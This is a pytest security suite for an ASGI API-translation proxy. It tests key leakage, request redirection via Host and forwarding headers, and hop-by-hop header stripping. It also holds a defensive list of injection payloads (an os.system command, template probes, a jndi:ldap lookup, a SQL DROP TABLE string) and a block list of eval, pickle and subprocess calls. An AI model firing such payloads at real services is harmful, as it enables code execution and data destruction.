"""Security guarantees: the configured upstream key never leaves towards clients or logs; client
headers and request targets cannot redirect a request; hop-by-hop headers do not cross; request
bodies are data, never code.
"""

from __future__ import annotations

import ast
import json
import logging
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import anyio
import httpx
import pytest
from servers import closed_port_url, serve
from starlette.types import Receive, Scope, Send
from test_corpus_replay import http_scope
from test_errors import BODIES
from test_middleware import Client, make

import asgi_translate
from asgi_translate import TranslateMiddleware
from asgi_translate._hub.routes import DEFAULT_PATHS, SCHEMAS
from asgi_translate.testing import FakeModel

pytestmark = pytest.mark.anyio

SECRET = "sk-configured-upstream-key-0123456789"
CLIENT_KEY = "sk-client-own-key-9876543210"
PACKAGE = Path(asgi_translate.__file__).parent


# -- credentials ---------------------------------------------------------------------------------------------


def echoing_remote() -> Any:
    """A remote that quotes every request header back, in error bodies and in streamed text."""

    async def app(scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            return
        await receive()
        quoted = "; ".join(f"{k.decode()}={v.decode()}" for k, v in scope["headers"])
        body = json.dumps({"error": {"message": f"bad key, you sent {quoted}", "type": "invalid_request_error"}})
        headers = [(b"content-type", b"application/json"), (b"www-authenticate", f"Bearer {quoted}".encode()[:200])]
        await send({"type": "http.response.start", "status": 401, "headers": headers})
        await send({"type": "http.response.body", "body": body.encode()})

    return app


@pytest.fixture
def all_logs(caplog: pytest.LogCaptureFixture) -> Iterator[pytest.LogCaptureFixture]:
    caplog.set_level(logging.DEBUG)  # every logger: ours, httpx, httpcore, uvicorn
    yield caplog


@pytest.mark.slow
@pytest.mark.parametrize("client", SCHEMAS)
async def test_the_configured_key_never_reaches_clients_or_logs(
    client: str, all_logs: pytest.LogCaptureFixture
) -> None:
    seen: list[str] = []
    headers = {"authorization": f"Bearer {CLIENT_KEY}", "x-api-key": CLIENT_KEY}
    with serve(FakeModel()) as good, serve(echoing_remote(), lifespan="off") as echo:
        urls = {"ok": good, "echo": echo, "down": closed_port_url()}
        for name, url in urls.items():
            proxy_app = TranslateMiddleware(upstream="chat", upstream_url=url, upstream_api_key=SECRET)
            with serve(proxy_app) as proxy:
                async with httpx.AsyncClient(timeout=5) as http:
                    for stream in (False, True):
                        body = {**BODIES[client], "stream": stream}
                        response = await http.post(proxy + DEFAULT_PATHS[client], json=body, headers=headers)  # type: ignore[index]
                        seen.append(f"{name} {response.status_code} {response.headers} {response.text}")
    assert any(" 200 " in line for line in seen) and any(" 401 " in line for line in seen)
    assert any(" 502 " in line for line in seen)
    everything = "\n".join(seen)
    assert SECRET not in everything
    assert SECRET not in all_logs.text
    assert CLIENT_KEY not in all_logs.text  # the client's own key is not logged either


# -- where a request goes -------------------------------------------------------------------------------------


def raw_request(url: str, target: str, headers: dict[str, str], body: bytes = b"") -> bytes:
    """Send bytes a normal HTTP client would never send (absolute-form and odd request targets)."""
    host, port = url.removeprefix("http://").split(":")
    lines = [f"POST {target} HTTP/1.1", *(f"{k}: {v}" for k, v in headers.items())]
    lines += [f"content-length: {len(body)}", "connection: close", "", ""]
    with socket.create_connection((host, int(port)), timeout=5) as sock:
        sock.sendall("\r\n".join(lines).encode() + body)
        data = b""
        while chunk := sock.recv(65536):
            data += chunk
    return data


@pytest.mark.slow
def test_client_headers_and_request_targets_cannot_redirect_requests() -> None:
    real, evil = FakeModel(), FakeModel()
    with serve(real) as real_url, serve(evil) as evil_url:
        evil_host = evil_url.removeprefix("http://")
        with serve(TranslateMiddleware(upstream="chat", upstream_url=real_url)) as proxy:
            tricks = {
                "host": evil_host,
                "x-forwarded-host": evil_host,
                "x-forwarded-proto": "https",
                "forwarded": f"host={evil_host};proto=http",
                "x-original-url": "/v1/other",
                "x-rewrite-url": "/v1/other",
                "content-type": "application/json",
            }
            messages = json.dumps(BODIES["messages"]).encode()
            targets = [
                ("/v1/messages", messages),  # translated
                (f"{evil_url}/v1/messages", messages),  # absolute form
                ("/v1/chat/completions", json.dumps(BODIES["chat"]).encode()),  # passed through
                (f"{evil_url}/v1/chat/completions", json.dumps(BODIES["chat"]).encode()),
                (f"@{evil_host}/v1/chat/completions", json.dumps(BODIES["chat"]).encode()),
                (f"//{evil_host}/v1/chat/completions", json.dumps(BODIES["chat"]).encode()),
            ]
            answers = [raw_request(proxy, target, tricks, body) for target, body in targets]
    assert evil.requests == []
    assert all(answer.startswith(b"HTTP/1.1 ") for answer in answers)
    real_host = real_url.removeprefix("http://")
    assert len(real.requests) == len(targets)
    for recorded in real.requests:
        assert recorded.headers["host"] == real_host
        assert not {"x-forwarded-host", "x-forwarded-proto", "forwarded", "x-original-url"} & set(recorded.headers)
    assert real.requests[0].path == "/v1/chat/completions"  # the route's own target
    # An absolute-form target matches no route: it is passed through, by path only, to the same remote.
    assert real.requests[1].path == "/v1/messages"


HOP_BY_HOP = ["connection", "keep-alive", "proxy-authorization", "proxy-authenticate", "te", "trailer", "upgrade"]


@pytest.mark.slow
def test_hop_by_hop_headers_do_not_cross_either_way() -> None:
    model = FakeModel()

    async def hop_adding_remote(scope: Scope, receive: Receive, send: Send) -> None:
        async def send_more(message: Any) -> None:
            if message["type"] == "http.response.start":
                extra = [(b"keep-alive", b"timeout=5"), (b"proxy-authenticate", b"Basic"), (b"trailer", b"x-t")]
                message = {**message, "headers": [*message["headers"], *extra]}
            await send(message)

        await model(scope, receive, send_more)

    sent = {
        "keep-alive": "timeout=99",
        "proxy-authorization": "Basic c2VjcmV0",
        "te": "trailers",
        "upgrade": "websocket",
        "trailer": "x-t",
    }
    with serve(hop_adding_remote) as url, serve(TranslateMiddleware(upstream="chat", upstream_url=url)) as proxy:
        answers = [
            httpx.post(proxy + "/v1/messages", json=BODIES["messages"], headers=sent, timeout=5),
            httpx.post(proxy + "/v1/chat/completions", json=BODIES["chat"], headers=sent, timeout=5),
        ]
    for recorded in model.requests:
        assert not set(HOP_BY_HOP[1:]) & set(recorded.headers), recorded.headers
        assert recorded.headers.get("connection", "keep-alive") == "keep-alive"  # httpx's own pool, not the client's
    for answer in answers:
        assert answer.status_code == 200
        assert not {"keep-alive", "proxy-authenticate", "trailer"} & set(answer.headers), answer.headers


# -- request bodies are data -------------------------------------------------------------------------------

PAYLOADS = [
    "__import__('os').system('touch /tmp/asgi_translate_pwned')",
    "{0.__class__.__mro__[1].__subclasses__()}",
    "%(secret)s %s %n %x",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "${jndi:ldap://example.invalid/a}",
    "'; DROP TABLE users; --",
    "\u202e\x00\x1b[31mred",
]


@pytest.mark.parametrize(("client", "upstream"), [(c, u) for c in SCHEMAS for u in SCHEMAS if c != u])
async def test_request_strings_travel_verbatim_and_nothing_runs(client: str, upstream: str, tmp_path: Path) -> None:
    received: list[bytes] = []

    async def inner(scope: Scope, receive: Receive, send: Send) -> None:
        received.append((await receive())["body"])
        await send({"type": "http.response.start", "status": 418, "headers": [(b"content-type", b"text/plain")]})
        await send({"type": "http.response.body", "body": b"teapot"})

    text = "\n".join(PAYLOADS)
    body = json.loads(json.dumps(BODIES[client]))
    body["model"] = PAYLOADS[2]
    if client == "responses":
        body["input"] = text
    else:
        body["messages"] = [{"role": "user", "content": text}]
    raw = json.dumps(body).encode()
    exchange = Client({"type": "http.request", "body": raw, "more_body": False})
    with anyio.fail_after(5):
        await make(inner, upstream)(http_scope(DEFAULT_PATHS[client], raw), exchange.receive, exchange.send)  # type: ignore[index]
    assert exchange.start["status"] == 418
    forwarded = json.loads(received[0])
    assert forwarded["model"] == PAYLOADS[2]
    assert text in strings_in(forwarded)  # every character of it, unformatted
    assert not await anyio.Path("/tmp/asgi_translate_pwned").exists()


def strings_in(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for item in value.values() for s in strings_in(item)]
    if isinstance(value, list):
        return [s for item in value for s in strings_in(item)]
    return []


DANGEROUS_CALLS = {"eval", "exec", "compile", "__import__", "breakpoint", "input"}
DANGEROUS_ATTRIBUTES = {
    ("pickle", "loads"),
    ("pickle", "load"),
    ("marshal", "loads"),
    ("yaml", "load"),
    ("yaml", "unsafe_load"),
    ("os", "system"),
    ("os", "popen"),
    ("subprocess", "run"),
    ("subprocess", "Popen"),
    ("subprocess", "call"),
    ("subprocess", "check_output"),
}


def calls_in(path: Path) -> Iterator[tuple[str, int]]:
    for node in ast.walk(ast.parse(path.read_text(), str(path))):
        if not isinstance(node, ast.Call):
            continue
        func = node.func
        if isinstance(func, ast.Name):
            yield func.id, node.lineno
        elif isinstance(func, ast.Attribute) and isinstance(func.value, ast.Name):
            yield f"{func.value.id}.{func.attr}", node.lineno


def test_the_package_has_no_code_evaluation_or_shell_calls() -> None:
    sources = sorted(PACKAGE.rglob("*.py"))
    assert len(sources) > 20
    found = [
        f"{path.relative_to(PACKAGE)}:{line} {name}"
        for path in sources
        for name, line in calls_in(path)
        if name in DANGEROUS_CALLS or tuple(name.split(".", 1)) in DANGEROUS_ATTRIBUTES
    ]
    assert found == []
    assert sum(1 for path in sources for name, _ in calls_in(path) if name == "_json.loads") > 0  # the scan sees calls


COMPLETION = {
    "id": "chatcmpl-1",
    "object": "chat.completion",
    "created": 1,
    "model": "m",
    "choices": [{"index": 0, "message": {"role": "assistant", "content": "ok"}, "finish_reason": "stop"}],
}


async def test_headers_a_connection_header_names_do_not_cross_either_way() -> None:
    """RFC 9110 section 7.6.1: a Connection header makes the names it lists hop-by-hop too."""
    seen: list[httpx.Request] = []

    def remote(request: httpx.Request) -> httpx.Response:
        seen.append(request)
        headers = {"connection": "X-Hop-Down, keep-alive", "x-hop-down": "1", "x-kept": "2"}
        return httpx.Response(200, headers=headers, json=COMPLETION)

    sent = {"connection": "openai-hop-up", "openai-hop-up": "1", "openai-organization": "org-1"}
    async with httpx.AsyncClient(transport=httpx.MockTransport(remote)) as http:
        proxy = TranslateMiddleware(upstream="chat", upstream_url="http://remote/v1", http_client=http)
        async with httpx.AsyncClient(transport=httpx.ASGITransport(app=proxy), base_url="http://proxy") as client:
            answers = [
                await client.post("/v1/chat/completions", json=BODIES["chat"], headers=sent),
                await client.post("/v1/messages", json=BODIES["messages"], headers=sent),
            ]
    for request in seen:
        assert request.headers["openai-organization"] == "org-1"
        assert "openai-hop-up" not in request.headers
    for answer in answers:
        assert answer.status_code == 200 and answer.headers["x-kept"] == "2"
        assert "x-hop-down" not in answer.headers and "connection" not in answer.headers
    assert answers[1].json()["content"] == [{"type": "text", "text": "ok"}]
